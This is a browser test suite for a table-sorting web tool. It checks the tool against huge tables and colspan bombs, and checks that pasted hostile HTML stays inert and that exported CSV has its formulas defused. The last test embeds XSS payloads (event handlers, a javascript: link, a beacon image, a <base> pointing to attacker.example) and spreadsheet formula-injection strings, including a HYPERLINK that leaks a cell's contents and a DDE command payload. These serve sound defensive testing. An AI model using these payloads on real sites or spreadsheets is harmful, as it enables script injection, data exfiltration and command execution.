// Table Sorter against huge and hostile tables (issues 35 and 36): every input ends in a result or in a message
// naming the limit, the renderer never crashes, the page's main thread never blocks for a second, nothing in hostile
// HTML becomes live, the CSV export defuses formulas, and an ordinary table works right after on the same page.
import { parseCsv } from '../../src/lib/csv/csv'
import {
  captureDownload,
  freezeLimitMs,
  gotoTool,
  pasteBuiltText,
  startFreezeProbe,
  watchPage,
} from '../support/helpers'
import { expect, type Page, test } from '../support/test'

const box = (page: Page) => page.getByLabel('Table to sort (CSV, TSV, Markdown or HTML)')
const firstColumn = (page: Page) =>
  page
    .getByTestId('table-row')
    .evaluateAll((rows) => rows.map((r) => r.querySelector('td[aria-colindex="1"]')?.textContent ?? ''))

type Built = 'wide-line' | 'big-csv' | 'columns-16k'

/** Pastes a text built in the page (so megabytes never cross the wire) into the table box. */
const pasteBuilt = (page: Page, kind: Built) => pasteBuiltText(box(page), kind)

/** Builds the texts in the page before the main-thread probe starts (building them is the test's work, not the tool's). */
async function build(page: Page, ...kinds: Built[]) {
  await page.evaluate((kinds) => {
    const w = window as unknown as { __built: Record<string, string> }
    w.__built ??= {}
    for (const kind of kinds) {
      let text = ''
      if (kind === 'wide-line') {
        // One line of 100,000 fields, then 1,000 one-field rows.
        text = `${Array.from({ length: 100_000 }, (_, i) => `c${i}`).join(',')}\n${'x\n'.repeat(1000)}`
      } else if (kind === 'big-csv') {
        // 400,000 rows of about 50 bytes: 20 MB.
        const rows = ['id,name,score,joined']
        for (let i = 0; i < 400_000; i++)
          rows.push(
            `${i},person number ${i} of many,${(i * 7919) % 100_003},20${10 + (i % 15)}-0${1 + (i % 9)}-1${i % 10}`,
          )
        text = rows.join('\n')
      } else {
        const row = (p: string) => Array.from({ length: 16_000 }, (_, i) => `${p}${i}`).join(',')
        text = [row('h'), ...Array.from({ length: 20 }, (_, r) => row(`r${r}c`))].join('\n')
      }
      w.__built[kind] = text
    }
  }, kinds)
}

/** Crash watch, page watch and the main-thread probe. */
async function open(page: Page, ...kinds: Built[]) {
  const watch = await watchPage(page)
  await gotoTool(page, 'table-sorter')
  if (kinds.length) await build(page, ...kinds)
  // Each read of the longest task also bounds the longest frame gap since the start (issue 35: under a second).
  const probe = await startFreezeProbe(page)
  return { watch, probe }
}

async function expectOrdinaryTableWorks(page: Page) {
  // Cleared first: a big paste shows as a summary, not a text box.
  await page.getByRole('button', { name: 'Clear', exact: true }).click()
  await box(page).fill('name,score\nAda,98\nGrace,87\nLinus,9')
  await expect(page.getByTestId('table-summary')).toHaveText('Read as CSV (delimiter “,”): 3 rows × 2 columns.')
  await page
    .getByTestId('sorted-table')
    .getByRole('button', { name: /^score/ })
    .click()
  await expect.poll(() => firstColumn(page)).toEqual(['Linus', 'Grace', 'Ada'])
}

test('a 25 KB HTML colspan bomb (1,000 × 100,000) is refused naming the limit', async ({ page }) => {
  const { watch, probe } = await open(page)
  const html = `<table><tr>${'<td colspan=100>a</td>'.repeat(1000)}</tr>${'<tr><td>x</td></tr>'.repeat(999)}</table>`
  await box(page).fill(html)
  await expect(page.getByTestId('table-failure')).toHaveText(
    'Row 1 spans 100,000 columns: Table Sorter reads up to 16,384.',
  )
  expect(await probe.stop()).toBeLessThan(freezeLimitMs())
  await expectOrdinaryTableWorks(page)
  expect(watch.crashes).toEqual([])
  expect(watch.pageErrors).toEqual([])
})

test('one CSV line of 100,000 fields then 1,000 rows is refused naming the limit', async ({ page }) => {
  const { watch, probe } = await open(page, 'wide-line')
  await pasteBuilt(page, 'wide-line')
  await expect(page.getByTestId('table-failure')).toHaveText('100,000 columns: Table Sorter reads up to 16,384.')
  expect(await probe.stop()).toBeLessThan(freezeLimitMs())
  await expectOrdinaryTableWorks(page)
  expect(watch.crashes).toEqual([])
  expect(watch.pageErrors).toEqual([])
})

test('a 20 MB CSV is read, sorted and exported off the main thread; 16,000 columns scroll', async ({ page }) => {
  test.setTimeout(90_000)
  const { watch, probe } = await open(page, 'big-csv', 'columns-16k')
  // 400,000 rows of about 50 bytes.
  await pasteBuilt(page, 'big-csv')
  await expect(page.getByTestId('table-summary')).toHaveText('Read as CSV (delimiter “,”): 400,000 rows × 4 columns.', {
    timeout: 45_000,
  })
  await page
    .getByTestId('sorted-table')
    .getByRole('button', { name: /^score/ })
    .click()
  await page
    .getByTestId('sorted-table')
    .getByRole('button', { name: /^score/ })
    .click()
  await expect(page.getByTestId('sorted-table').getByRole('columnheader', { name: /score/ })).toHaveAttribute(
    'aria-sort',
    'descending',
  )
  // The largest score: (i * 7919) mod 100,003 reaches 100,002 for one i below 400,000.
  await expect
    .poll(() => page.getByTestId('table-row').first().locator('td[aria-colindex="3"]').textContent(), {
      timeout: 30_000,
    })
    .toBe('100002')
  await expect(page.getByTestId('table-row')).not.toHaveCount(0)
  expect(await page.getByTestId('table-row').count()).toBeLessThan(100)
  const file = await captureDownload(page, () => page.getByRole('button', { name: 'Download .csv' }).click())
  const lines = file.text().split('\r\n')
  expect(lines).toHaveLength(400_001)
  expect(lines[0]).toBe('id,name,score,joined')
  expect(lines[1]?.split(',')[2]).toBe('100002')
  expect(await probe.stop()).toBeLessThan(freezeLimitMs())

  // 16,000 columns × 20 rows: accepted, and only the columns in view are drawn.
  await page.getByRole('button', { name: 'Clear', exact: true }).click()
  await pasteBuilt(page, 'columns-16k')
  await expect(page.getByTestId('table-summary')).toHaveText('Read as CSV (delimiter “,”): 20 rows × 16,000 columns.')
  const drawn = await page.getByTestId('sorted-table').getByRole('columnheader').count()
  expect(drawn).toBeLessThan(40)
  await page.getByRole('region', { name: 'Table', exact: true }).evaluate((el) => {
    el.scrollLeft = el.scrollWidth
  })
  await expect(page.getByTestId('sorted-table').getByRole('columnheader', { name: /^h15999/ })).toBeVisible()
  await expectOrdinaryTableWorks(page)
  expect(watch.crashes).toEqual([])
  expect(watch.pageErrors).toEqual([])
})

test('hostile HTML stays inert (no handler, no <base>, nothing loads) and the CSV export defuses formulas', async ({
  page,
}) => {
  const { watch } = await open(page)
  const baseBefore = await page.evaluate(() => document.baseURI)
  const html = `<base href="https://attacker.example/"><link rel="stylesheet" href="https://attacker.example/x.css">
<table><tr><th onclick="window.__pwned='th'">=HYPERLINK("https://attacker.example/?"&amp;A2,"Click")</th><th>n</th></tr>
<tr><td><img src="https://attacker.example/p.png" onerror="window.__pwned='img'">@SUM(1)*cmd|' /C calc'!A0</td><td>+1</td></tr>
<tr><td><a href="javascript:window.__pwned='a'">plain</a></td><td>2</td></tr></table>`
  await box(page).fill(html)
  await expect(page.getByTestId('table-summary')).toHaveText('Read as HTML: 2 rows × 2 columns.')
  await expect(page.getByTestId('sorted-table').locator('img, a, link, base')).toHaveCount(0)
  await page.waitForTimeout(300)
  expect(await page.evaluate(() => (window as unknown as { __pwned?: unknown }).__pwned)).toBeUndefined()
  expect(await page.evaluate(() => document.baseURI)).toBe(baseBefore)
  expect(watch.foreignRequests).toEqual([])
  expect(watch.cspViolations).toEqual([])

  // Defused by default, header row included; the switch turns it off.
  const defused = await captureDownload(page, () => page.getByRole('button', { name: 'Download .csv' }).click())
  expect(parseCsv(defused.text(), ',').rows).toEqual([
    [`'=HYPERLINK("https://attacker.example/?"&A2,"Click")`, 'n'],
    ["'@SUM(1)*cmd|' /C calc'!A0", "'+1"],
    ['plain', '2'],
  ])
  await page.getByText('Defuse spreadsheet formulas').click()
  await expect(page.getByRole('region', { name: 'Exported table' })).not.toContainText("'=HYPERLINK")
  const live = await captureDownload(page, () => page.getByRole('button', { name: 'Download .csv' }).click())
  expect(parseCsv(live.text(), ',').rows[1]).toEqual(["@SUM(1)*cmd|' /C calc'!A0", '+1'])
  await expectOrdinaryTableWorks(page)
  expect(watch.crashes).toEqual([])
  expect(watch.pageErrors).toEqual([])
})
